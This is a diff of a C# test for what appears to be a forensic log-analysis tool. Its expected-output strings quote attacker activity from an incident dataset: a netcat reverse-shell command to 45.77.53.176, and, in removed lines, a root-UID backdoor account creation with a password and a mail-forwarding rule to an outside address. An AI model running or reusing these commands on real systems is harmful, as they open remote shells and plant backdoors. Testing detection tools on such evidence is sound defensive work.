@@ -45,26 +45,24 @@ public sealed class DemoTests : IDisposable
         string[] lines = [.. run.Out.Split('\n').Select(l => string.Join(' ', l.Split(' ', StringSplitOptions.RemoveEmptyEntries)))];
         foreach (string fact in (string[])
         [
-            "199.66.91.253 US CRICKETCOMM - Cricket Co 51 5 2 [reconstructed]",
-            "104.207.83.63 HK NAMECHEAP-NET - Namechea 27 0 2 [reconstructed]",
-            "157.97.121.132 NL ∅ 8 3 2 [reconstructed]",
-            "09:41:07 mail bgist 104.207.83.63 Quarantined, 187442 bytes: Draft Financial Plan for Brewery FY2019 6 [reconstructed]",
-            "09:57:33 audit bgist 104.207.83.63 FileUploaded BRUCE BIRTHDAY HAPPY HOUR PICS.lnk 1 [reconstructed]",
-            "09:58:52 mail bgist 104.207.83.63 Delivered, 11873 bytes: Draft Financial Plan for Brewery FY2019 6 [reconstructed]",
-            "10:48:28 audit fyodor 104.207.83.63 New-MailboxSearch SOX cromdale OR beer OR financial OR secret 1 [quoted]",
-            "11:21:40 audit fyodor 199.66.91.253 New-TransportRule hyunki1984@naver.com SOX 1 [reconstructed]", // once, though it stands under two sourcetypes
-            "11:56:21 audit fyodor 199.66.91.253 FileDownloaded archive.tar 1 [reconstructed]",
+            "Quarantined 187442 6 bgist@froth.ly 104.207.83.63 2018-08-20T09:41:07Z 2018-08-20T09:41:07Z",
+            "Delivered 11873 6 bgist@froth.ly 104.207.83.63 2018-08-20T09:58:52Z 2018-08-20T09:58:52Z",
+            "2018-08-20T09:57:17Z audit bgist@froth.ly 104.207.83.63 FileUploaded stout.png 1:58",
+            "2018-08-20T11:56:21Z audit fyodor@froth.ly 199.66.91.253 FileDownloaded archive.tar 1:38",
             "url https://45.77.53.176:443 public 2 base64>utf16le>base64>utf16le sysmon._raw, wineventlog._raw 6:4647",
             "_raw base64@1900+5312>utf16le@0+3984>base64@1723+64>utf16le@0+48 (24 bytes)",
             "→ url https://45.77.53.176:443",
             "FYODOR-L sysmon._raw 3849 0 2018-08-20T10:47:30Z 2018-08-20T16:08:10Z",
             "ABUNGST-L sysmon._raw 1070 0 2018-08-20T11:58:00Z 2018-08-20T13:27:05Z",
-            "11:13:56 matar [reconstructed] saveGangster.action: /bin/sh 0</tmp/backpipe | nc 45.77.53.176 8088 1>/tmp/backpipe",
-            "11:24:54 hoth [quoted] \"useradd\" \"-ou\" \"tomcat7\" \"-p\" \"ilovedavidverve\" \"0\" \"-g\" \"0\" \"-M\" \"-N\" \"-r\" \"-s\" \"/bin/bash\"",
-            "11:34:49 hoth [reconstructed] \"nc\" \"45.77.53.176\" \"8088\"",
+            "2018-08-20T11:13:56Z 192.168.8.103 /bin/sh 0</tmp/backpipe | nc 45.77.53.176 8088 1>/tmp/backpipe",
+            "| 2018-08-20T11:34:49Z | hoth | /bin/nc.traditional | \"nc\" \"45.77.53.176\" \"8088\" |",
             "ABUNGST-L XmlWinEventLog:Microsoft-Windows-Sysmon/Operational 1082 2018-08-20T08:00:00Z 2018-08-20T13:27:05Z",
+            "$ weir sql \"SELECT time, user, parent_process, directory FROM processes WHERE process LIKE '%tar.exe'\" --case " + bench.Case,
+            "of 6,432 events 7 are quoted, 6,425 are reconstructed",
         ])
             Assert.Contains(fact, lines);
+        Assert.Single(lines, l => l.Contains(" New-TransportRule ", StringComparison.Ordinal)); // once, though it stands under two sourcetypes
+        Assert.True(File.Exists(bench.File("case-timeline.svg")));
         Assert.Equal("3850|2", await bench.AskAsync("SELECT count(DISTINCT row_key) FROM (SELECT source_id || ':' || row_id AS row_key FROM sysmon WHERE host = 'FYODOR-L' AND contains(_raw, '45.77.53.176') UNION ALL SELECT source_id || ':' || row_id FROM stream_http WHERE host = 'FYODOR-L' AND contains(_raw, '45.77.53.176')) UNION ALL SELECT count(*) FROM weir.ioc_hits WHERE layers IS NOT NULL AND type = 'url'"));
         Assert.Equal("84", await bench.AskAsync("SELECT count(*) FROM messagetrace WHERE orig_recipient = 'hyunki1984@naver.com'"));
         Assert.Equal("30", await bench.AskAsync("SELECT count(DISTINCT host) FROM (SELECT host FROM sysmon UNION SELECT host FROM wineventlog UNION SELECT host FROM osquery UNION SELECT host FROM stream_http)"));
